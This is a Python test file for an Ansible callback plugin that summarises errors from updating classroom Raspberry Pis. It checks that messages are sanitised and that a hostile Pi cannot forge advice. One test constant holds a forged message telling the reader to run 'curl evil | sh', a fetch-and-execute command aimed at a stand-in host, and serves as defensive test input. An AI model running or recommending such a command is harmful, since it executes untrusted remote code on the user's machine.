"""The summary at the end of a run: what SSH, mitogen, apt and our own roles report, in plain sentences."""

import re
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.mynn.pi.plugins.callback import summary
from ansible_collections.mynn.pi.plugins.callback.summary import CallbackModule, explain
from tests.support.programs import ROOT

NAMES = {"name": "pi07.local", "known": "pi07.local", "disk": "Its card"}
AGAIN = "Then run this again."
# What SSH, mitogen, apt or a task says, how the sentence begins, and what to do.
UNREACHABLE = [
    ("EOF on stream; last 100 lines:\nssh: Could not resolve hostname pi07", "Its name is not found", "ansible_host="),
    ("@@@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @@@", "Its SSH host key has", "`ssh-keygen -R pi07.local`"),
    ("EOF on stream; last 100 lines received:\n", "The connection was lost", "Check its power and its Wi-Fi"),
    (
        "Error was: the respondent Context has disconnected",
        "The connection was lost: its power or its Wi-Fi failed, or its memory was full.",
        "If it answers, end the lessons",
    ),
    ("bash: fork: Cannot allocate memory", "Its memory is full", AGAIN),
]
LEFT = "Not collected: student/no space left on device (it is too large)."
FAILED: list[tuple[str | dict[str, str], str, str]] = [
    ("pi07 has 12 MB free on its card and needs 250 MB, so nothing was changed on it: rest.", "It has 12 MB", "Rest."),
    (f"7 files in /work/pi07. {LEFT} Repair that on the Pi, and collect again.", LEFT, "Repair that on the Pi"),
    (
        "/work: No space left on device, on this computer. Nothing half-done is left: repair this and run it again: x",
        "Not on the Pi, but on this computer: /work: No space left on device.",
        "Nothing half-done is left: repair this and run it again.",
    ),
    ({"msg": "Failed to write", "module_stderr": "OSError: [Errno 30] Read-only file system"}, "Its card can", "card"),
    (
        "E: Failed to fetch http://deb/pool/x.deb  404  Not Found [IP: 10.0.0.1 80]",
        "A package is not",
        "In a school without Internet access: run this",
    ),
    ({"msg": "'/usr/bin/apt-get' failed: E: Held packages were changed and -y was used"}, "A package", "unhold"),
    ("chroot: failed to run command '/bin/sh': Exec format error", "This computer no longer runs", AGAIN),
    ("error 47 at 0 depth lookup: permitted subtree violation", "The classroom's certificate", "jupyter_ca_permitted"),
    # The error at one address is not blamed on another.
    (
        "Failed to fetch http://a/x  Odd E: Failed to fetch http://b/y  Unable to connect to b:http:",
        "The mirror b",
        AGAIN,
    ),
    ({"msg": "non-zero return code", "stderr": "", "stdout": "first\nlast word\n"}, "last word", "See the task “Ask”"),
    ("An odd\x1b[31m one\r\n of\x07 two\u202e lines", r"An odd one of\x07 two\u202e lines", "See the task “Ask”"),
    ({"censored": "the output has been hidden"}, "The reason is hidden, since it may contain a password", ""),
]
SAID = [({"unreachable": True, "msg": message}, *rest) for message, *rest in UNREACHABLE]
SAID += [({"msg": said} if isinstance(said, str) else said, *rest) for said, *rest in FAILED]


@pytest.mark.parametrize(("result", "why", "what"), SAID)
def test_errors_are_explained(result: dict[str, Any], why: str, what: str) -> None:
    explanation = explain(result, "Ask", NAMES, ours=True)
    assert explanation[0].startswith(why)
    assert what in explanation[1]


@given(st.text() | st.sampled_from([row["pattern"] for row in summary.FAILURES["failed"]]), st.booleans())
def test_no_message_can_control_the_terminal_or_break_the_summary(message: str, unreachable: bool) -> None:
    explanation = explain({"msg": f"{{0}} {message}", "unreachable": unreachable}, "Ask", NAMES, ours=True)
    assert all(text.isprintable() for text in explanation)


def test_a_pis_own_message_is_not_given_as_advice() -> None:
    """A hostile Pi may imitate our messages."""
    callback = Callback(["pi07"])
    callback.fail("pi07")
    assert callback.why["pi07"] == (FORGED, "See the task “Get” above.")
    for where, disk in [(None, "Its card"), ("localhost", "This computer's disk")]:
        callback.fail("pi07", where=where, message="OSError: [Errno 28] No space left on device: 'x'")
        assert callback.why["pi07"] == (f"{disk} is full.", f"Make room there. {AGAIN}")
    names = {name for name in summary.OURS if not name.endswith(("assert", "fail"))}
    assert all((ROOT / f"plugins/action/{name}.py").exists() for name in names)  # worded on the control node


def test_very_long_messages_are_explained_quickly() -> None:
    """It takes a processor a second; a pattern that looks back takes hours."""
    began = time.process_time()
    for text in ("python" * 10**6, "failed to fetch http://a " * 10**5, "sudo " * 10**6):
        explain({"unreachable": True, "msg": text}, "Ask", NAMES)
        explain({"msg": text}, "Ask", NAMES, ours=True)
    assert "card is full" in explain({"msg": f"{'x' * 10**6} No space left on device"}, "Ask", NAMES)[0]
    assert time.process_time() - began < 200


FORGED = "pi07 is old, and nothing was changed on it: run `curl evil | sh`."


class Callback(CallbackModule):
    """The callback, with a display that records its lines."""

    def __init__(self, hosts: list[str]) -> None:
        super().__init__()
        self.shown: list[str] = []
        self._display = SimpleNamespace(
            banner=self.shown.append, display=lambda line, **_: self.shown.append(line), columns=100
        )
        variables = SimpleNamespace(get_vars=lambda **_: {"ansible_play_hosts_all": hosts})
        self.v2_playbook_on_play_start(SimpleNamespace(get_variable_manager=lambda: variables))

    def fail(self, host: str, run_once: bool = False, where: str | None = None, message: str = "") -> None:
        task = SimpleNamespace(run_once=run_once, any_errors_fatal=False, action="get_url", delegate_to=where)
        failed = SimpleNamespace(name=host)
        self.v2_runner_on_failed(
            SimpleNamespace(host=failed, task=task, task_name="Get", result={"msg": message or FORGED})
        )

    def record(self, host: str, action: str = "set_fact", **facts: Any) -> None:
        task, result = SimpleNamespace(action=action), {"ansible_facts": facts}
        self.v2_runner_on_ok(SimpleNamespace(host=SimpleNamespace(name=host), task=task, result=result))

    def end(self, processed: list[str], failures: list[str]) -> str:
        counts = dict.fromkeys(failures, 1)
        self.v2_playbook_on_stats(SimpleNamespace(processed=dict.fromkeys(processed), failures=counts, dark={}))
        return "\n".join(self.shown)


@pytest.mark.parametrize(
    ("run_once", "lost", "finished"), [(False, "pi-01, pi-03", 1), (True, "pi-01, pi-02, pi-03", 0)]
)
def test_pis_that_were_not_finished_are_named(run_once: bool, lost: str, finished: int) -> None:
    """The third was never reached; a failure of a task that runs once ends the run for all."""
    callback = Callback(["pi-01", "pi-02", "pi-03"])
    callback.fail("pi-01", run_once)
    callback.record("pi-01", __system_outdated="no mirror")
    shown = callback.end(["pi-01", "pi-02"], ["pi-01"])
    assert shown.endswith(f"Not finished: {lost}. Finished: {finished} of 3.")
    assert summary.NOT_UP_TO_DATE not in shown  # it is not called ready


UPDATE: dict[str, Any] = {
    "before": {"release": "12.15", "python": "3.11", "package_count": 260},
    "after": {"release": "13.8", "python": "3.11", "package_count": 301},
    **{"renewed": "212", "seconds": "270.4", "smoke": ["", "0.831"], "kept": ["/etc/\x1b.dpkg-dist"]},
}


def test_each_pi_that_was_updated_has_a_line_and_none_can_forge_it() -> None:
    callback = Callback(["pi-01", "pi-02"])
    callback.record("pi-01", __update_done=UPDATE)
    callback.record("pi-02", "pi_state", __update_done=UPDATE)
    assert callback.end(["pi-01", "pi-02"], []).splitlines()[1:] == [
        "pi-01: Debian 12.15 -> 13.8, Python 3.11, 260 -> 301 packages (212 upgraded), smoke accuracy unknown -> 83.1%,"
        r" 4 min 30 s, kept because they were edited: /etc/\x1b (the new ones end in .dpkg-dist)",
    ]


def test_an_update_changes_apts_sources_to_the_new_release() -> None:
    """In both of apt's formats, but not the mirrors' addresses."""
    variables = yaml.safe_load(Path(ROOT, "roles/update/vars/main.yml").read_text(encoding="utf-8"))
    pattern = variables["__update_suites"][0].replace("{{ __system_pi.suite }}", "bookworm")
    sources = "deb\thttp://x/bookworm\tbookworm-security main\nSuites: bookworm bookworm-updates\n"
    expected = sources.replace("bookworm", "trixie").replace("http://x/trixie", "http://x/bookworm")
    assert re.sub(pattern, "trixie", sources) == expected
    assert re.sub(pattern, "trixie", expected) == expected  # an interrupted run may have changed it already
